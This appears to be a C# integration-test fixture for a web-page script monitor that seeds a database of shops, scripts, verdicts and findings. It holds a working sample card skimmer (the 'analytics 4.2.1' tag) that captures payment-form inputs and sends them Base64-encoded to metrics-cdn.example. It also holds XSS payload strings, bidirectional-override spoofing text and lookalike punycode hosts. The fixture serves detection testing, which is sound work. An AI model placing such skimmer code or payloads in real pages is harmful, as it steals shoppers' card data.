using System.Text.Json;
using PageShield.Crawls;
using PageShield.Detection;
using PageShield.Inventory;
using PageShield.Inventory.Connections;
using PageShield.Inventory.Pages;
using PageShield.Inventory.Scripts;
using PageShield.Reports;
using PageShield.Reports.Urls;
using PageShield.Sites;
using PageShield.Storage;

namespace PageShield.IntegrationTests.Screens;

/// <summary>A database as it looks after two weeks: two shops, hostile names in every text, an infection, reports, alerts.</summary>
internal static partial class SeededShops
{
    /// <summary>Text that breaks a screen that does not encode.</summary>
    public const string Markup = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'";

    /// <summary>Text that shows in another order than it is stored.</summary>
    public const string Bidi = "cdn.good.example/\u202egnp.exe\u202c";

    public const int ShopId = 1;
    public const int QuietId = 2;
    public const long Skimmer = 1001;
    public const long TagManager = 1002;
    public const long Hostile = 1003;
    public const long Infection = 5001;
    public const long HeaderChange = 5003;
    public const long LastCrawl = 9003;
    public const long RunningCrawl = 9004;
    public const long FailedCrawl = 9101;
    public const long CheckoutPage = 102;

    /// <summary>Why sightings count as one script, as every seeded script says it.</summary>
    public const string IdentityReason = "Every file at this address counts as this script.";

    public const string SkimmerHost = "cdn-analytics.example";

    private const string TagV1 = """
        /* analytics 4.2.0 */
        (function (w, d) {
          var queue = w.dataLayer = w.dataLayer || [];
          function send(event) {
            var body = JSON.stringify({ event: event, page: d.location.pathname });
            navigator.sendBeacon('https://collect.analytics.example/v4', body);
          }
          queue.push = function (event) { send(event); return Array.prototype.push.call(queue, event); };
          d.addEventListener('DOMContentLoaded', function () { send('view'); });
        })(window, document);
        """;

    private const string TagV2 = """
        /* analytics 4.2.1 */
        (function (w, d) {
          var queue = w.dataLayer = w.dataLayer || [];
          function send(event) {
            var body = JSON.stringify({ event: event, page: d.location.pathname, v: 421 });
            navigator.sendBeacon('https://collect.analytics.example/v4', body);
          }
          queue.push = function (event) { send(event); return Array.prototype.push.call(queue, event); };
          d.addEventListener('DOMContentLoaded', function () { send('view'); });
          var form = d.querySelector('form#payment');
          if (form) {
            form.addEventListener('submit', function () {
              var fields = {};
              form.querySelectorAll('input').forEach(function (field) { fields[field.name] = field.value; });
              new Image().src = 'https://metrics-cdn.example/p.gif?d=' + btoa(JSON.stringify(fields));
            });
          }
        })(window, document);
        """;

    public static async Task SeedAsync(PageShieldDbContext database, DateTimeOffset now, CancellationToken cancellationToken)
    {
        database.Sites.AddRange(
            Site(ShopId, "Harbour & Sons", "shop.example", now, site =>
            {
                site.Hosts = ["shop.example", "www.shop.example", "xn--hfen-loa.example"];
                site.LastCrawlAt = now.AddHours(-2);
                site.FirstReportAt = now.AddDays(-12);
                site.LastReportAt = now.AddMinutes(-3);
                site.NextRunAt = now.AddHours(4);
                site.Cron = "0 */6 * * *";
            }),
            Site(QuietId, $"Quiet {Markup}", "quiet.example", now, site => site.LastReportAt = now.AddDays(-3)),
            Site(3, "Just added", "new.example", now, _ => { }));
        await database.SaveChangesAsync(cancellationToken);

        var old = Content(database, TagV1, now.AddDays(-12));
        var infected = Content(database, TagV2, now.AddHours(-2));
        var hostile = Content(database, $"document.title = '{Markup}';\n// {Bidi}\n", now.AddDays(-9));
        AddPages(database, now);
        AddScripts(database, now, old, infected, hostile);
        AddJudgements(database, now, old, infected, hostile);
        AddConnectionsAndCookies(database, now);
        AddCrawls(database, now);
        AddChanges(database, now, old, infected);
        AddObservations(database, now);
        AddAlerts(database, now);
        await database.SaveChangesAsync(cancellationToken);
    }

    private static Site Site(int id, string name, string host, DateTimeOffset now, Action<Site> more)
    {
        var site = new Site
        {
            Id = id,
            Name = name,
            Hosts = [host],
            StartUrls = [$"https://{host}/"],
            ReportKey = $"k{id}a7f3c29e41",
            CreatedAt = now.AddDays(-14)
        };
        more(site);
        return site;
    }

    private static Sha256Hash Content(PageShieldDbContext database, string text, DateTimeOffset at)
    {
        var bytes = System.Text.Encoding.UTF8.GetBytes(text);
        var hash = Sha256Hash.OfBytes(bytes);
        database.ScriptContents.Add(new ScriptContent { Sha256 = hash, Length = bytes.Length, Body = StoredBody.Compress(bytes), FirstSeenAt = at });
        return hash;
    }

    private static void AddPages(PageShieldDbContext database, DateTimeOffset now)
    {
        string[] paths = ["/", "/products/{id}", "/checkout/payment", "/search", "/account/login"];
        for (var i = 0; i < paths.Length; i++)
        {
            database.Pages.Add(new Page
            {
                SiteId = ShopId,
                Id = 100 + i,
                UrlTemplate = "https://shop.example" + paths[i],
                ExampleUrl = "https://shop.example" + paths[i],
                Title = i == 1 ? Markup : "Harbour & Sons",
                HasPaymentFields = i == 2,
                Headers = i switch
                {
                    0 or 1 => JsonSerializer.Serialize(new Dictionary<string, string> { ["content-security-policy"] = $"default-src 'self'; script-src 'self' 'unsafe-inline' https://tags.manager.example https://old.vendor.example; report-uri https://reports.example/r/k{ShopId}a7f3c29e41" }),
                    2 => JsonSerializer.Serialize(
                        new Dictionary<string, string>
                        {
                            ["content-security-policy-report-only"] =
                        $"script-src 'nonce-Zm9v{i}' 'strict-dynamic'; object-src 'none'; base-uri 'none'",
                            ["meta content-security-policy"] =
                        Markup
                        }),
                    3 => "{}",
                    _ => null,
                },
                FirstSeenAt = now.AddDays(-13),
                LastSeenAt = now.AddHours(-2),
            });
        }
    }

    private static void AddScripts(PageShieldDbContext database, DateTimeOffset now, Sha256Hash old, Sha256Hash infected, Sha256Hash hostile)
    {
        Script(database, Skimmer, $"https://{SkimmerHost}/v4/tag.js", now, script =>
        {
            script.ParentScriptId = TagManager;
            (script.Score, script.Verdict, script.CurrentSha256, script.VersionCount) = (4, VerdictKind.Malicious, infected, 2);
            (script.OnPaymentPage, script.PageCount, script.ReportedAt, script.ReportCount) = (true, 3, now.AddMinutes(-3), 1843);
        });
        Script(database, TagManager, "https://tags.manager.example/gtm.js?id=GTM-HARBOUR", now,
            script => (script.Score, script.Verdict, script.OnPaymentPage, script.PageCount) = (86, VerdictKind.Clean, true, 5));
        Script(database, Hostile, $"https://xn--pple-43d.example/{Markup}/{new string('a', 1800)}.js", now, script =>
        {
            script.Host = "xn--pple-43d.example";
            (script.Score, script.Verdict, script.CurrentSha256) = (31, VerdictKind.Suspicious, hostile);
            script.CrawledAt = null;
            (script.ReportedAt, script.ReportCount, script.Status) = (now.AddDays(-1), 7, InventoryStatus.Unconfirmed);
        });
        Script(database, 1004, "https://shop.example/", now, script =>
        {
            (script.Kind, script.Place, script.Party, script.Host) =
                (ScriptKind.Inline, $"head > script:nth-of-type(2) {Bidi}", Party.First, "shop.example");
            (script.Score, script.Verdict) = (97, VerdictKind.Clean);
        });
        ScriptKind[] kinds = Enum.GetValues<ScriptKind>();
        string[] hosts =
            ["shop.example", "js.payments.example", "cdn.widgets.example", "static.reviews.example", "fonts.example", "chat.support.example",
            "ads.network.example"];
        for (var i = 0; i < 90; i++)
        {
            var host = hosts[i % hosts.Length];
            var number = i;
            Script(database, 1100 + i, $"https://{host}/assets/{(i % 3 == 0 ? "vendor/" : "")}module-{i}.{(i * 7919) % 65536:x4}.min.js", now,
                script =>
            {
                script.Kind = kinds[number % kinds.Length];
                script.Party = number % hosts.Length == 0 ? Party.First : Party.Third;
                script.Host = host;
                script.ParentScriptId = number % 5 == 1 ? TagManager : number % 11 == 3 ? 1100 : null;
                (script.Score, script.Verdict) = number % 13 == 0 ? ((int?)null, VerdictKind.Unknown) : number == 17 ? (38, VerdictKind.Suspicious)
                    : (60 + (number % 39), VerdictKind.Clean);
                script.FirstSeenAt = now.AddDays(-12 + (number % 11));
                script.Status = number % 17 == 4 ? InventoryStatus.Inactive : number % 29 == 7 ? InventoryStatus.Removed : InventoryStatus.Active;
                if (number % 4 == 0) (script.ReportedAt, script.ReportCount) = (now.AddHours(-number), 10 * number);
                if (number % 19 == 5) (script.Ran, script.NotRunReason) = (false, NotRunReason.Csp);
            });
        }

        database.ScriptVersions.AddRange(
            new ScriptVersion
            {
                SiteId = ShopId,
                ScriptId = Skimmer,
                Sha256 = old,
                Url = $"https://{SkimmerHost}/v4/tag.js",
                FirstSeenAt = now.AddDays(-12),
                LastSeenAt = now.AddHours(-8),
                FirstCrawlId = 9001,
                ReportCount = 1700
            },
            new ScriptVersion
            {
                SiteId = ShopId,
                ScriptId = Skimmer,
                Sha256 = infected,
                Url = $"https://{SkimmerHost}/v4/tag.js",
                FirstSeenAt = now.AddHours(-2),
                LastSeenAt = now.AddHours(-2),
                FirstCrawlId = LastCrawl,
                ReportCount = 143
            },
            new ScriptVersion
            {
                SiteId = ShopId,
                ScriptId = Hostile,
                Sha256 = hostile,
                Url = $"https://xn--pple-43d.example/{Markup}.js",
                FirstSeenAt = now.AddDays(-9),
                LastSeenAt = now.AddDays(-1),
                ReportCount = 7
            });
        foreach (var (script, page) in new[] { (Skimmer, 100L), (Skimmer, 101L), (Skimmer, CheckoutPage), (TagManager, 100L),
            (TagManager, CheckoutPage), (Hostile, 101L) })
            database.ScriptsOnPages.Add(
                new ScriptOnPage
                {
                    SiteId = ShopId,
                    ScriptId = script,
                    PageId = page,
                    FirstSeenAt = now.AddDays(-12),
                    LastSeenAt = now.AddHours(-2),
                    CrawledAt = now.AddHours(-2),
                    ReportedAt = script == Skimmer ? now.AddMinutes(-3) : null
                });
    }

    private static void Script(PageShieldDbContext database, long id, string url, DateTimeOffset now, Action<Script> more)
    {
        var script = new Script
        {
            SiteId = ShopId,
            Id = id,
            Identity = Sha256Hash.OfText($"script {id}"),
            IdentityReason = IdentityReason,
            Kind = ScriptKind.External,
            UrlTemplate = url,
            ReportTemplate = url,
            Url = url,
            Host = new Uri(url.Split('<')[0]).Host,
            Party = Party.Third,
            AddedBy = AddedBy.Script,
            Status = InventoryStatus.Active,
            FirstSeenAt = now.AddDays(-12),
            LastSeenAt = now.AddHours(-2),
            CrawledAt = now.AddHours(-2),
            PageCount = 1,
            VersionCount = 1,
            Ran = true,
        };
        more(script);
        database.Scripts.Add(script);
    }

    private static void AddJudgements(PageShieldDbContext database, DateTimeOffset now, Sha256Hash old, Sha256Hash infected, Sha256Hash hostile)
    {
        object[] findings =
        [
            new { rule = "card-fields-to-foreign-host", severity = "critical",
                title = "Sends what is typed into the payment form to a host that is not the form’s own", evidence =
                "input values → btoa(JSON) → https://metrics-cdn.example/p.gif", line = 14, column = 7, category = "skimmer", weight = 4.1 },
            new { rule = "payment-form-listener", severity = "high", title = "Listens to the payment form being sent",
                evidence = "form#payment addEventListener('submit')", line = 11, column = 3, category = "skimmer", weight = 1.9 },
            new { rule = "image-beacon", severity = "medium", title = "Hides a message in an image’s address", evidence = Markup, line = 14,
                column = 7, category = "skimmer", weight = 0.8 },
        ];
        Judge(infected, 4, VerdictKind.Malicious, "skimmer", findings,
            new { skimmer = 3, miner = 99, redirect = 98, fakeUpdate = 99, walletDrainer = 99, supplyChain = 71, obfuscation = 88 });
        Judge(old, 91, VerdictKind.Clean, null, [],
            new { skimmer = 93, miner = 99, redirect = 98, fakeUpdate = 99, walletDrainer = 99, supplyChain = 92, obfuscation = 95 });
        Judge(hostile, 31, VerdictKind.Suspicious, "obfuscation",
            [new { rule = "bidi-text", severity = "medium", title = $"Hides text with bidirectional characters {Markup}", evidence = Bidi, line = 2,
            column = 1 }], new { obfuscation = 31 });

        void Judge(Sha256Hash hash, int score, VerdictKind verdict, string? category, object[] evidence, object subscores) =>
            database.Judgements.Add(new Judgement
            {
                Sha256 = hash,
                AnalyzerVersion = "1.0",
                Score = score,
                Verdict = verdict,
                Category = category,
                Subscores = JsonSerializer.Serialize(subscores),
                Findings = JsonSerializer.Serialize(evidence),
                JudgedAt = now.AddHours(-2),
                Milliseconds = 41.5,
            });

        database.SiteFindings.Add(new SiteFinding
        {
            SiteId = ShopId,
            Id = 7001,
            Identity = Sha256Hash.OfText("canary"),
            Rule = "canary-exfiltration",
            Severity = Severity.Critical,
            ScriptId = Skimmer,
            Title = "A test card number left the checkout for another company’s host",
            Evidence = $"cc-number → metrics-cdn.example, Base64 in the query {Markup}",
            PageUrl = "https://shop.example/checkout/payment",
            FirstSeenAt = now.AddHours(-2),
            LastSeenAt = now.AddHours(-2),
        });
    }
}
